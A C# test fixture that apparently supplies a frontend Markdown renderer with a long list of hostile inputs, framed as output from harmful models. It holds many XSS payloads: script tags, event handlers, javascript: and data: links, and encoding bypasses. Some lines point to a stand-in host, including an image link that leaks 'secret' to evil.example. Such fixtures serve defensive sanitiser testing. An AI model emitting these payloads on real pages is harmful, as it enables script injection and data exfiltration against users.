namespace ServingCluster.Frontend.Tests.Ui.Markdown;

/// <summary>Markdown of models that were told, or taught, to do harm.</summary>
internal static class HostileMarkdown
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>window.pwned=1</script>", "<img src=x onerror=window.pwned=1>", "<svg onload=window.pwned=1>", "<svg><script>window.pwned=1</script></svg>",
        "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<body onload=window.pwned=1>", "<details open ontoggle=window.pwned=1>x</details>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>", "<a href=\"javascript:window.pwned=1\">x</a>",
        "<input autofocus onfocus=window.pwned=1>", "<style>*{display:none}</style>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<object data=data:text/html,<script>parent.pwned=1</script>></object>", "<!--><img src=x onerror=window.pwned=1>-->", "<![CDATA[<script>window.pwned=1</script>]]>",
        "<?xml <script>window.pwned=1</script> ?>", "</p></div><script>window.pwned=1</script>", "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
        "[x](javascript:window.pwned=1)", "[x](JaVaScRiPt:window.pwned=1)", "[x](&#106;avascript:window.pwned=1)", "[x](java\tscript:window.pwned=1)",
        "[x](java&#10;script:window.pwned=1)", "[x](java&Tab;script:window.pwned=1)", "[x](\u0001javascript:window.pwned=1)", "[x](\u00a0javascript:window.pwned=1)",
        "[x](<javascript:window.pwned=1>)", "[x](<java script:window.pwned=1>)", "[x]( javascript:window.pwned=1 )", "[x](javascript&colon;window.pwned=1)",
        "[x](javascript://example.com/%0Awindow.pwned=1)", "[x](feed:javascript:window.pwned=1)", "[x](view-source:javascript:window.pwned=1)",
        "[x](vbscript:msgbox(1))", "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)", "[x](DATA:text/html,<script>parent.pwned=1</script>)",
        "[x](blob:https://a/b)", "[x](file:///etc/passwd)", "[x](filesystem:http://a/b)", "[x](about:blank)", "[x](//evil.example)", "[x](\\\\evil.example)",
        "[x](/ui/access)", "[x](#x)", "[x](ftp://a/b)", "[x](https:///evil)", "[x](http:evil)", "[x](https://a/\"onmouseover=\"window.pwned=1)",
        "[x](https://a 'title\" onmouseover=\"window.pwned=1')", "[x](https://a \"a\\\"><script>window.pwned=1</script>\")", "[x](https://a/<script>)",
        "[x][1]\n\n[1]: javascript:window.pwned=1", "[x][1]\n\n[1]: https://a \"'onclick='window.pwned=1\"", "[javascript:window.pwned=1]",
        "[x]\n\n[x]: <data:text/html,<script>parent.pwned=1</script>>", "<javascript:window.pwned=1>", "<JAVASCRIPT:window.pwned=1>", "<data:text/html,x>",
        "<https://a/'onclick='window.pwned=1>", "<a@b.c\"onclick=x>", "javascript:window.pwned=1", "https://a/\"onclick=\"window.pwned=1", "www.a.b/\"><script>window.pwned=1</script>",
        "https://a/`<img src=x onerror=window.pwned=1>`", "mailto:a@b.c?subject=<script>", "![x](javascript:window.pwned=1)", "![x](https://evil.example/leak?q=secret)",
        "![x\" onerror=\"window.pwned=1](https://a/b.png)", "![](data:image/svg+xml,<svg onload=window.pwned=1>)", "[![x](https://a/i.png)](javascript:window.pwned=1)",
        "[![x](https://a/i.png)](https://b)", "[a [b](javascript:window.pwned=1) c](https://d)", "[[[[x](javascript:1)](javascript:2)](javascript:3)](javascript:window.pwned=1)",
        "[<img src=x onerror=window.pwned=1>](https://a)", "![[x](javascript:1)](javascript:window.pwned=1)", "[`](javascript:window.pwned=1)`]",
        "```<script>window.pwned=1</script>\nx\n```", "```\"onmouseover=\"window.pwned=1\nx\n```", "```html onclick=window.pwned=1\n<script>window.pwned=1</script>\n```",
        "~~~'\"><img src=x onerror=window.pwned=1>\nx\n~~~", "``` {.x onclick=window.pwned=1}\nx\n```", "    <script>window.pwned=1</script>", "`<script>window.pwned=1</script>`",
        "# <script>window.pwned=1</script> {onclick=window.pwned=1}", "> <img src=x onerror=window.pwned=1>", "- <svg/onload=window.pwned=1>",
        "1. <a href=javascript:window.pwned=1>x</a>", "| <script>window.pwned=1</script> | b |\n|--|--|\n| [x](javascript:window.pwned=1) | <img src=x onerror=1> |",
        "**<b onclick=window.pwned=1>x</b>**", "~~<script>window.pwned=1</script>~~", "- [ ] <script>window.pwned=1</script>", "&lt;script&gt;window.pwned=1&lt;/script&gt;",
        "&#60;script&#62;window.pwned=1&#60;/script&#62;", "\\<script>window.pwned=1\\</script>", "<\u0000script>window.pwned=1</script>", "\ufeff<script>window.pwned=1</script>",
        "<a\u2028href='javascript:window.pwned=1'>x</a>", "99999999999999999999. x", "-1. x", "[x](https://\u202egnp.live/)", "[x](https://user:pass@evil.example)",
    ];
}
